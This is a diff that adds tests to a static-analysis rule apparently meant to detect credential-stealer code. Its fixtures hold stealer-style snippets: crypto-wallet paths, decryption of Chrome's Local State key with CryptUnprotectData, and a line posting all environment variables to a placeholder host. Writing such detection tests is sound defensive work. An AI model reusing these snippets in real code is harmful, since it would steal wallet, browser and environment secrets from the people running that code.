@@ -67,6 +67,36 @@ def test_browser_words_in_ordinary_code_do_not_fire() -> None:
     assert run(R, benign) == []
 
 
+def test_wallet_app_names_count_as_paths_not_as_words() -> None:
+    """'Guarda' is a wallet in a stealer's path list and an ordinary Italian or Portuguese word."""
+    bad = py("import os\nw = os.getenv('APPDATA') + '\\\\Guarda\\\\Local Storage\\\\leveldb'\n")
+    assert [f.rule for f in run(R, bad)] == ["PV-SEC-STEALER"]
+    listed = py("import os\nw = os.path.join(os.getenv('APPDATA'), 'Coinomi/Coinomi/wallets')\n")
+    assert "PV-SEC-STEALER" in ids(run(R, listed))
+    data = py("provinces = [['Guarda', 'GR'], ['Coimbra', 'CO']]\njobs = ['Guarda-roupeiro de cinema']\n")
+    assert run(R, data) == []
+
+
+def test_dpapi_in_a_cache_that_also_encrypts_versus_decrypting_only() -> None:
+    """A token cache encrypts with CryptProtectData and reads its own secrets back with
+    CryptUnprotectData; a stealer only decrypts what the browser stored."""
+    cache = py(
+        "import ctypes\n"
+        "_PROTECT = ctypes.windll.crypt32.CryptProtectData\n"
+        "_UNPROTECT = ctypes.windll.crypt32.CryptUnprotectData\n"
+    )
+    assert "PV-SEC-STEALER" not in ids(run(R, cache))
+    decrypt_only = py("from win32crypt import CryptUnprotectData\n")
+    assert "PV-SEC-STEALER" in ids(run(R, decrypt_only))
+    stealer = py(
+        "import ctypes, os\n"
+        "db = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Local State')\n"
+        "key = ctypes.windll.crypt32.CryptUnprotectData(db)\n"
+        "ctypes.windll.crypt32.CryptProtectData(key)\n"
+    )
+    assert "PV-SEC-STEALER" in ids(run(R, stealer))
+
+
 def test_environment_dump_versus_copy_for_subprocess() -> None:
     bad = py(
         "import os, json, requests\nrequests.post('https://x.example/c', data=json.dumps(dict(os.environ)))\n"
